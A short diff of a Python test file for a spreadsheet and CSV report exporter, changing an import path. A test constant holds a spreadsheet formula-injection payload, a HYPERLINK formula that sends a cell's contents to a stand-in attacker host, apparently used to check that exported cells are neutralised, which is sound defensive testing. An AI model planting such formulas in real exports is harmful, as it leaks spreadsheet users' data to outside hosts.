@@ -14,7 +14,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from xuefa.reporting import LEARNER_COLUMNS, csv_cell, sheet_name, write_csv, write_xlsx
+from xuefa.reports.rows import LEARNER_COLUMNS, csv_cell, sheet_name, write_csv, write_xlsx
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
 EXCEL_FORBIDDEN = "/\\?*:[]"
